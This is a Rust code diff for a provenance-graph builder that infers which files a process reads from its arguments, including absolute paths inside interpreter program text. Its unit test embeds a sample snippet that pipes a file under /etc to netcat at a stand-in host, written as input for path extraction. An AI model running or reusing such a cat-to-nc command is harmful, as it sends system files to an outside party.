@@ -4,20 +4,27 @@ use saigen_schemas::event::Text;
 
 use crate::graph::build::{GraphBuilder, Says, Scene};
 use crate::graph::places::file_name;
+use crate::graph::store::FileId;
 use crate::graph::{Ground, NodeId, Verb};
 use crate::replay::UnitId;
 
 /// Most arguments of a process that are looked at as names of files.
 const ARGS_MAX: usize = 64;
 
-/// The longest path that a system call takes, `path_resolution(7)`.
-const PATH_MAX: usize = 4096;
+/// Longer arguments are data.
+const TEXT_MAX: usize = 16 << 10;
 
 /// Programs that take names of files and do not read what is in them.
 const NOT_READERS: [&[u8]; 17] = [
     b"rm", b"unlink", b"rmdir", b"chmod", b"chown", b"chgrp", b"touch", b"mkdir", b"ls", b"stat",
     b"test", b"[", b"ln", b"mv", b"echo", b"printf", b"find",
 ];
+
+/// Shells: what the text of their command names is named again by the programs that they start.
+const SHELLS: [&[u8]; 6] = [b"sh", b"bash", b"dash", b"zsh", b"ksh", b"ash"];
+
+/// Most files that one argument, a program's text, is searched for.
+const WORDS_MAX: usize = 32;
 
 impl GraphBuilder {
     /// Files that the arguments of a process name, and that were written since recording began:
@@ -40,22 +47,50 @@ impl GraphBuilder {
         let mut output = false;
         for arg in args.iter().skip(1).take(ARGS_MAX) {
             let is_output = std::mem::replace(&mut output, is_output_option(arg));
-            if is_output || arg.0.len() > PATH_MAX {
+            if is_output || is_output_value(arg) || arg.0.len() > TEXT_MAX {
                 continue;
             }
             let mut path = std::mem::take(&mut self.scratch);
             path_of(cwd.0, arg.0, &mut path);
             let file = self.changed_file_at(facts.host, &path);
             self.scratch = path;
-            if let Some(file) = file.and_then(|file| self.file_node(file)) {
-                let says = Says {
-                    verb: Verb::Read,
-                    ground: Ground::Arguments,
-                };
-                self.link(scene, file, node, says);
+            self.reads_by_name(scene, file, node);
+            if file.is_none() && !SHELLS.contains(&program) {
+                for path in paths_in(arg.0) {
+                    let file = self.changed_file_at(facts.host, path);
+                    self.reads_by_name(scene, file, node);
+                }
             }
         }
     }
+
+    fn reads_by_name(&mut self, scene: &Scene<'_>, file: Option<FileId>, node: NodeId) {
+        if let Some(file) = file.and_then(|file| self.file_node(file)) {
+            let says = Says {
+                verb: Verb::Read,
+                ground: Ground::Arguments,
+            };
+            self.link(scene, file, node, says);
+        }
+    }
+}
+
+/// Absolute paths inside an argument that is a text of its own, a program for an interpreter;
+/// without those behind `>`, which are written.
+fn paths_in(text: &[u8]) -> impl Iterator<Item = &[u8]> {
+    let mut before = b' ';
+    text.chunk_by(|&one, &other| is_path_byte(one) == is_path_byte(other))
+        .filter(move |part| {
+            let path = part.starts_with(b"/") && part.len() > 1 && before != b'>';
+            before = part.last().copied().unwrap_or(before);
+            path
+        })
+        .take(WORDS_MAX)
+}
+
+/// Whether a byte may stand in a path of a command line, unquoted.
+pub(super) fn is_path_byte(byte: u8) -> bool {
+    byte.is_ascii_alphanumeric() || matches!(byte, b'/' | b'.' | b'_' | b'-' | b'+' | b'@' | b'~')
 }
 
 /// Whether the next argument names what is written.
@@ -64,6 +99,11 @@ fn is_output_option(arg: Text<'_>) -> bool {
         arg.0,
         b"-o" | b"-O" | b"--output" | b"-of" | b"--output-document"
     )
+}
+
+/// Whether an argument itself names what is written.
+fn is_output_value(arg: Text<'_>) -> bool {
+    arg.0.starts_with(b"of=") || arg.0.starts_with(b"--output")
 }
 
 /// The path that an argument may mean: `@file`, `key=file`, relative to the working directory.
@@ -99,6 +139,14 @@ fn path_of(cwd: &[u8], arg: &[u8], path: &mut Vec<u8>) {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn paths_inside_a_program_are_found() {
+        let text =
+            b"open(F,'/tmp/a');print >>/tmp/out;system(\"cat /etc/b|nc x\"); / $x=http://h/p";
+        let found: Vec<_> = paths_in(text).collect();
+        assert_eq!(found, [b"/tmp/a".as_slice(), b"/etc/b", b"//h/p"]);
+    }
 
     #[test]
     fn arguments_are_paths_from_the_working_directory() {
